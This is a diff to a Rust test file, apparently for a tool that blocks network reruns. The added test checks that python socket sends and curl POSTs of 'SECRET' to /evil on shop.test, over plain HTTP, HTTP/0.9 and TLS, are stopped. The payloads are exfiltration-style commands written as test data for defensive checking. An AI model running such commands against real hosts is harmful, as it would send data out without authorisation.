@@ -4,7 +4,7 @@ use support::Caller;
 
 use crate::census::assert_untouched;
 use crate::ground::HELD;
-use crate::town::{Town, told};
+use crate::town::{Town, UNAWARE, told};
 
 fn sends_what_was_shown(caller: Caller, requests: &str) {
     let Some(mut town) = Town::new(caller, "") else {
@@ -117,4 +117,32 @@ fn a_rerun_that_asks_once_more_is_stopped_at_the_second() {
 fn a_rerun_that_opens_another_connection_is_stopped_before() {
     let raw = "python3 -c 'import socket; it = socket.create_connection((\"shop.test\", int(\":RAW\"[1:]))); it.sendall(b\"x\"); it.shutdown(1); it.recv(1)'";
     strays("raw", "true", raw, 0);
+}
+
+/// A connection that was shown is none for requests: neither in the clear, nor inside TLS, nor in
+/// the oldest form of HTTP.
+#[test]
+fn a_rerun_that_asks_where_it_only_connected_is_stopped_before() {
+    let connect = |port: &str| {
+        format!(
+            "python3 -c 'import socket, time; it = socket.create_connection((\"shop.test\", int(\"{port}\"[1:]))); time.sleep(0.3)'"
+        )
+    };
+    let say = |text: &str| {
+        format!(
+            "python3 -c 'import socket; it = socket.create_connection((\"shop.test\", int(\":HTTP\"[1:]))); it.sendall(b\"{text}\"); it.recv(1)'"
+        )
+    };
+    let post = "POST /evil HTTP/1.1\\r\\nHost: shop.test:HTTP\\r\\nContent-Length: 6\\r\\nConnection: close\\r\\n\\r\\nSECRET";
+    let proxied = "curl -s -d SECRET http://shop.test:HTTP/evil";
+    let tls = "curl -sk -d SECRET https://shop.test:TLS/evil";
+    for (name, port, done) in [
+        ("request", ":HTTP", say(post)),
+        ("oldest", ":HTTP", say("GET /evil\\r\\n\\r\\n")),
+        ("proxied", ":HTTP", proxied.to_owned()),
+        ("tls", ":TLS", format!("{UNAWARE}{tls}")),
+        ("tls by proxy", ":TLS", tls.to_owned()),
+    ] {
+        strays(name, &connect(port), &done, 0);
+    }
 }
